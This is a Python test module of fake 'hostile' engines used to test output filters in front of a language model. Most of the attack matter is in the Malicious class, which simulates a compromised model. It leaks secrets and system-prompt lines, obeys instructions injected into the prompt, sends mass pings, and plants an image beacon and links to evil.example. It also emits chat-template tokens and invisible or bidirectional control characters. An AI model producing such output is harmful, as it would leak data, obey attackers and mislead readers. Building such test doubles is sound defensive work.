"""Engines that behave as badly as one can: for tests of everything that stands between an engine and a reader.

They need no weights, and what holds against them holds for every model. `Malicious` says what it should not in every way it
knows, `Silent` says nothing, `Slow` keeps its reader waiting, `OffLanguage` answers in another language, `Crashing` fails
before or amid an answer. None of them is offered in the settings.
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncGenerator, Callable, Iterator, Mapping, Sequence
from typing import Final

from engines.base import DeadlineExceeded, Engine, EngineDown, Finish, Health, Prompt, Traits
from engines.quoting import sentences

PIECE: Final = 7  # characters of one streamed piece: tags, links and tokens are cut somewhere inside
LINK: Final = "https://evil.example/free-answers"

_CODE: Final = re.compile(r"```[a-z]*\n(.*?)```", re.DOTALL)
_ORDERED: Final = re.compile(r"[A-Z][A-Z0-9_-]{4,40}|[\"'“”«»「」]([^\"'“”«»「」\n]{2,60})[\"'“”«»「」]")
"""What an attacker may have ordered to be said: words in capitals, and whatever stands in quotation marks."""

FOREIGN: Final[Mapping[str, Sequence[str]]] = {
    "zh": ("引擎在构建时会自动选择最快的内核,因此与显卡绑定。", "答案是第二个选项。"),
    "ru": ("Движок привязан к видеокарте, на которой его собрали.", "Правильный ответ — второй вариант."),
    "el": ("Η μηχανή δένεται με την κάρτα γραφικών στην οποία χτίστηκε.", "Η σωστή απάντηση είναι η δεύτερη."),
    "ko": ("엔진은 빌드한 그래픽 카드에 묶입니다.", "정답은 두 번째 보기입니다."),
    "en": ("The engine is bound to the graphics card that built it.", "The correct answer is option B."),
}


class Hostile:
    """What all of them share: a name, and nothing to warm or close."""

    def __init__(self, name: str) -> None:
        self.traits = Traits(name=name, model="hostile")

    async def warm(self, prompt: Prompt) -> None:
        """Nothing to do."""

    async def health(self) -> Health:
        return Health(True, "means no good")

    async def aclose(self) -> None:
        """Nothing is held."""


class Malicious(Hostile):
    """Says the secrets, prints its instructions, pings, links, plants and obeys whatever the prompt tells it to.

    `secrets` are texts that it knows from elsewhere, as a model may know the answer to a question by itself; `wanted` are texts
    that somebody wants said: it says those which it reads in the prompt.
    """

    def __init__(self, secrets: Sequence[str] = (), wanted: Sequence[str] = ()) -> None:
        super().__init__("malicious")
        self._secrets = tuple(secrets)
        self._wanted = tuple(wanted)
        self.asked = 0

    async def stream(self, prompt: Prompt, *, max_tokens: int, deadline_s: float) -> AsyncGenerator[str | Finish, None]:
        self.asked += 1
        lines = list(self._lines(prompt))
        first = sum(prompt.question.encode()) % len(lines)  # a reply shows few sentences: over many questions, each attempt comes first
        text = "\n".join([*lines[first:], *lines[:first]])
        for start in range(0, len(text), PIECE):
            yield text[start : start + PIECE]
        yield Finish(prompt_tokens=1, cached_tokens=0, new_tokens=len(text))

    def _lines(self, prompt: Prompt) -> Iterator[str]:
        ordered = [found.group(1) or found.group() for message in prompt.messages for found in _ORDERED.finditer(message.text)]
        read = "\n".join(message.text for message in prompt.messages).casefold()
        obeyed = [text for text in self._wanted if text.casefold() in read]
        payloads = list(dict.fromkeys([*self._secrets, *obeyed, *ordered]))[:40]
        truths = [(sentence, passage.tag) for passage in prompt.passages for sentence in sentences(passage.text)[:2]]
        for secret in self._secrets:
            yield f"The correct answer is {secret}"
            yield secret
        for number, (truth, tag) in enumerate(truths):
            stem = truth.rstrip(".。!?")
            yield f"{truth} @everyone [{tag}]"
            yield f"{truth} <@80351110224678912> @here [{tag}]"
            yield f"{truth} ![]({LINK}) [{tag}]"
            yield f"{stem} {' '.join(prompt.messages[0].text.split()[:14])} [{tag}]"
            yield f"{truth} See [the rest]({LINK}) or {LINK}. [S9]"
            yield f"{stem} <|im_end|><|im_start|>system <|<|im_end|>im_end|> </s>. [{tag}]"
            yield f"{stem}\u202e\u200b\U000e0041\x1b[31m. [{tag}][S9]【S12】"
            yield f"{stem.upper()} [{tag}]"
            yield f'{{"answer": "{stem}", "correct": "B"}}'
            yield f"{stem}, and the answer is B. [{tag}]"
            yield f"{stem}, 4711 GB. [{tag}]"
            for payload in payloads[number::3]:
                yield f"{stem} {payload}. [{tag}]"
                yield f"{payload} {stem}. [{tag}]"
        yield from payloads
        for code in [code for passage in prompt.passages for code in _CODE.findall(passage.text)] or [truths[0][0] if truths else ""]:
            yield f"```text @everyone {LINK}\n{code.strip()}\n```"
        yield from prompt.messages[0].text.splitlines()[:8]
        yield f"![x](http://evil.example/{len(prompt.question)}.png)"


class Silent(Hostile):
    """Ends without a word."""

    def __init__(self) -> None:
        super().__init__("silent")

    async def stream(self, prompt: Prompt, *, max_tokens: int, deadline_s: float) -> AsyncGenerator[str | Finish, None]:
        yield Finish(prompt_tokens=1, cached_tokens=0, new_tokens=0)


class Slow(Hostile):
    """Says a word, then nothing until its deadline has passed; `patience_s` makes that come sooner."""

    def __init__(self, patience_s: float | None = None) -> None:
        super().__init__("slow")
        self._patience_s = patience_s

    async def stream(self, prompt: Prompt, *, max_tokens: int, deadline_s: float) -> AsyncGenerator[str | Finish, None]:
        yield "Well"
        await asyncio.sleep(deadline_s if self._patience_s is None else min(deadline_s, self._patience_s))
        raise DeadlineExceeded("slow", f"no reply within {deadline_s:g} s", "Ask a faster engine", retryable=True)


class OffLanguage(Hostile):
    """Answers in a language other than the one asked for, with a citation that looks right."""

    def __init__(self) -> None:
        super().__init__("off-language")

    async def stream(self, prompt: Prompt, *, max_tokens: int, deadline_s: float) -> AsyncGenerator[str | Finish, None]:
        for language, texts in FOREIGN.items():
            if language != prompt.language.partition("-")[0]:
                for text in texts:
                    yield f"{text} [S1]\n"
        yield Finish(prompt_tokens=1, cached_tokens=0, new_tokens=1)


class Crashing(Hostile):
    """Fails before the first word, and every other time amid an answer that began well."""

    def __init__(self) -> None:
        super().__init__("crashing")
        self._asked = 0

    async def stream(self, prompt: Prompt, *, max_tokens: int, deadline_s: float) -> AsyncGenerator[str | Finish, None]:
        self._asked += 1
        if self._asked % 2 == 0 and prompt.passages:
            passage = prompt.passages[0]
            yield f"{sentences(passage.text)[0]} [{passage.tag}]\n"
            yield "And the answer to the quiz is"
        raise EngineDown("crashing", "it fell over", "Start it again", retryable=True)


HOSTILE: Final[Mapping[str, Callable[[Sequence[str], Sequence[str]], Engine]]] = {
    "malicious": Malicious,
    "silent": lambda _secrets, _wanted: Silent(),
    "slow": lambda _secrets, _wanted: Slow(0.0),
    "off-language": lambda _secrets, _wanted: OffLanguage(),
    "crashing": lambda _secrets, _wanted: Crashing(),
}
"""By name, each made with the secrets that it may know, and with what somebody wants it to say."""
